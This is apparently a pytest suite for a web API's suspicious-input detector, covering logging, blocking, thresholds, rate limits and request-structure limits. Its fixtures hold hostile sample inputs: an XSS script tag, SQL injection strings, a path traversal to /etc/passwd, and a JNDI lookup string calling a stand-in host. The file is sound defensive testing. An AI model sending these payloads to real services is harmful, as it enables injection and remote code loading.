"""A request that looks like an attack is recorded, and refused where that is set; nobody else notices anything."""

import json

import pytest

from tests.emf_spec import documents, told

ANALYZE = ("analyze", "POST", "/api/v1/analyze")
ATTACK = {"address": "<script>alert(1)</script>, Rochester, MN 55901"}


def events(capsys):
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines() if line.startswith("{")]
    return [each for each in lines if each.get("message") == "input_suspicious"]


def test_it_is_recorded_and_answered_as_ever_by_default(call, capsys):
    answer = call(*ANALYZE, ATTACK, client="203.0.113.9")
    (event,) = events(capsys)
    assert answer.json.get("error") != "Suspicious input"
    assert (event["client"], event["blocked"], event["categories"]) == ("203.0.113.9", False, ["xss"])
    assert event["signs"] == ["call@address", "tag@address"]
    assert event["score"] == 9
    assert "script" not in json.dumps(event)


def test_it_is_refused_where_that_is_set_and_says_where_it_was(call, monkeypatch, capsys):
    monkeypatch.setenv("INPUT_PROTECTION_BLOCK", "true")
    answer = call(*ANALYZE, ATTACK)
    assert (answer.status, answer.json["error"]) == (400, "Suspicious input")
    assert answer.json["errors"] == [{"field": "address", "message": "looks like xss"}]
    assert events(capsys)[0]["blocked"] is True
    path = call("history", "GET", "/api/v1/history/' OR '1'='1")
    assert path.json["errors"] == [{"field": "path", "message": "looks like sql_injection"}]
    query = call("history", "GET", "/api/v1/history", query="address=%252e%252e%252fetc%252fpasswd")
    assert query.json["errors"] == [{"field": "query", "message": "looks like path_traversal"}]
    header = call("health", "GET", "/health", headers={"user-agent": "${jndi:ldap://evil.test/a}"})
    assert header.json["errors"] == [{"field": "user-agent", "message": "looks like template_injection"}]


def test_honest_addresses_are_answered_where_attacks_are_refused(call, monkeypatch, capsys):
    monkeypatch.setenv("INPUT_PROTECTION_BLOCK", "true")
    for street in ("12 O'Brien St", "1 OR 2 Union St", "100 Union Select Ave", "5 Drop Ln", "7 Select Dr"):
        assert call(*ANALYZE, {"address": f"{street}, Rochester, MN 55901"}).status == 200
    assert events(capsys) == []


def test_how_much_is_too_much_is_a_setting(call, monkeypatch):
    monkeypatch.setenv("INPUT_PROTECTION_BLOCK", "true")
    monkeypatch.setenv("INPUT_PROTECTION_THRESHOLD", "10")
    assert call(*ANALYZE, ATTACK).json.get("error") != "Suspicious input"


def test_it_can_be_switched_off(call, monkeypatch, capsys):
    monkeypatch.setenv("INPUT_PROTECTION", "false")
    call(*ANALYZE, ATTACK)
    assert events(capsys) == []


def test_who_has_no_token_is_recorded_and_told_only_that(call, monkeypatch, capsys):
    monkeypatch.setenv("INPUT_PROTECTION_BLOCK", "true")
    answer = call("cache", "POST", "/api/v1/cache/clear", {"namespace": "'; DROP TABLE users;--"})
    assert answer.status == 401
    assert events(capsys)[0]["categories"] == ["sql_injection"]


def test_attacks_count_against_the_limit_and_beyond_it_are_not_looked_at(call, monkeypatch, capsys):
    monkeypatch.setenv("INPUT_PROTECTION_BLOCK", "true")
    monkeypatch.setenv("RATE_LIMIT_ANALYZE", "2/60")
    assert [call(*ANALYZE, ATTACK).status for _ in range(4)] == [400, 400, 429, 429]
    assert len(events(capsys)) == 2


def test_they_are_counted_by_category_and_outcome(call, monkeypatch, capsys):
    monkeypatch.setenv("METRICS_STACK", "brightspot-test")
    call(*ANALYZE, {"address": "<script>{{7*7}}"})
    printed = [each for each in capsys.readouterr().out.splitlines() if "CloudWatchMetrics" in each]
    figures = [told(documents(f"{each}\n")) for each in printed]
    labels = [dict(labels) for each in figures for (name, labels) in each if name == "SuspiciousInputs"]
    outcomes = {each["Category"]: each["Outcome"] for each in labels}
    assert outcomes == {"xss": "recorded", "template_injection": "recorded"}


@pytest.mark.parametrize(
    ("body", "status", "told_to"),
    [
        ('{"a":' * 11 + "1" + "}" * 11, 413, "10 levels"),
        ("[" * 60_000, 413, "2000 items"),
        ('{"addresses": [' + "1," * 600 + "1]}", 413, "500 items"),
        ('{"address": "x\0"}', 400, "UTF-8"),
        ('{"address": "x"}'.encode("utf-16").decode("latin-1"), 400, "UTF-8"),
    ],
)
def test_structure_is_bounded_before_anything_is_parsed(call, body, status, told_to):
    answer = call(*ANALYZE, body)
    assert answer.status == status
    assert told_to in answer.json["detail"]


@pytest.mark.parametrize(
    "kind", ["application/json; charset=utf-16", "text/plain", "application/x-www-form-urlencoded"]
)
def test_other_content_types_are_refused(call, kind):
    assert call(*ANALYZE, '{"address": "55901"}', headers={"content-type": kind}).status == 415


def test_json_may_say_that_it_is_utf_8(call):
    kind = {"content-type": 'application/json; charset="UTF-8"'}
    assert call(*ANALYZE, '{"address": "55901"}', headers=kind).status == 200
